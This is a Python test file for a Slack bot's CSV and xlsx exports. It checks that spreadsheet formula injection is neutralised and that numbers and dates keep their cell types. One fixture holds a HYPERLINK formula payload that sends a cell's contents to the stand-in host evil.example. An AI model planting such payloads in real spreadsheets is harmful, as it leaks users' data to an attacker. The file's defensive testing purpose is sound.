"""Exports never run what a user wrote (CSV and formula injection, OWASP): text typed in
Slack that a spreadsheet would take for a formula comes out as text, in CSV and xlsx;
numbers stay numbers and dates are date cells. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import os
from datetime import datetime

import pytest
from openpyxl import load_workbook

from core.settings import Settings
from exports import safe_text
from exports.visits import VISIT_COLUMNS
from tests.e2e import visits_fixtures
from tests.e2e.visits_fixtures import speak

visit_team = visits_fixtures.visit_team  # the fixture, shared by the visit tests
pytestmark = pytest.mark.real_commits  # `bot.py export` reads on a connection of its own

EVIL_NEED = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the quote")'
LINE = f"Acme Corp; needs: {EVIL_NEED}; concerns: +33 price; notes: @SUM(1+1); follow-up: -2 lines then =1+1 by 2026-11-20"


@pytest.fixture
def settings(database) -> Settings:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "AMBOT_", "DATABASE_URL"))}
    env.update(DATABASE_URL=database.url, AMBOT_LANG="en", LANG="C.UTF-8")
    return Settings.from_env(env)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_risky_text_gets_a_leading_apostrophe(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["1+1", "华东 = 好", "", "a-b", "'already"])
def test_other_text_is_left_alone(text):
    assert safe_text(text) == text


def test_what_users_typed_is_exported_as_text_in_csv_and_xlsx(driver, visit_team, bot_cli, settings, tmp_path):
    speak(driver, "U0A1")
    assert "Visit logged" in driver.command("U0A1", "/visit", LINE).reply_text
    speak(driver, "U0MGR")
    assert "Revenue" in driver.command("U0MGR", "/kpi", "target <@U0A1> revenue 10000").reply_text
    assert "=refund" in driver.command("U0A1", "/kpi", "log revenue -500 Acme Corp =refund").reply_text

    shown = bot_cli("export", "visits", settings=settings)
    assert shown.returncode == 0, shown.stderr
    [header, row] = list(csv.reader(io.StringIO(shown.stdout)))
    cells = dict(zip(header, row, strict=True))
    assert cells["needs"] == "'" + EVIL_NEED
    assert (cells["concerns"], cells["notes"]) == ("'+33 price", "'@SUM(1+1)")
    assert cells["date"] == "2026-11-18" and cells["customer"] == "Acme Corp"
    followups = list(csv.reader(io.StringIO(bot_cli("export", "followups", settings=settings).stdout)))
    assert followups[1][1] == "'-2 lines then =1+1"

    path = tmp_path / "visits.xlsx"
    assert bot_cli("export", "visits", "--format", "xlsx", "--output", str(path), settings=settings).returncode == 0
    sheet = load_workbook(path).active
    assert sheet is not None
    header_cells, data = list(sheet.iter_rows(min_row=1, max_row=2))
    assert [h.value for h in header_cells][:3] == ["日期", "客户", "客户经理"]  # the team's language
    by_name = dict(zip(VISIT_COLUMNS, data, strict=True))
    for name, expected in (("needs", EVIL_NEED), ("concerns", "+33 price"), ("notes", "@SUM(1+1)")):
        cell = by_name[name]
        assert (cell.data_type, cell.value) == ("s", expected), name  # text, never a formula
        assert cell.quotePrefix
    assert (by_name["date"].data_type, by_name["date"].value) == ("d", datetime(2026, 11, 18))  # a date cell
    assert (by_name["logged_at"].data_type, by_name["logged_at"].value) == ("d", datetime(2026, 11, 18, 10, 0))  # Shanghai time
    assert by_name["customer"].data_type == "s" and not by_name["customer"].quotePrefix

    kpi = tmp_path / "kpi.xlsx"
    assert bot_cli("export", "kpi", "--format", "xlsx", "--output", str(kpi), settings=settings).returncode == 0
    kpi_sheet = load_workbook(kpi).active
    assert kpi_sheet is not None
    rows = list(kpi_sheet.iter_rows(min_row=2))
    assert rows, "the kpi export is empty"
    numbers = [c for row in rows for c in row[3:] if c.value is not None]
    assert numbers and all(c.data_type == "n" for c in numbers)  # numbers stay numbers
    kpi_csv = list(csv.reader(io.StringIO(bot_cli("export", "kpi", settings=settings).stdout)))
    assert next(r for r in kpi_csv if r[2] == "revenue")[:5] == ["2026Q4", "U0A1", "revenue", "10000", "-500"]  # a number, no '
    revenue = next(row for row in rows if row[2].value == "revenue")
    assert (revenue[4].value, revenue[4].data_type) == (-500, "n")
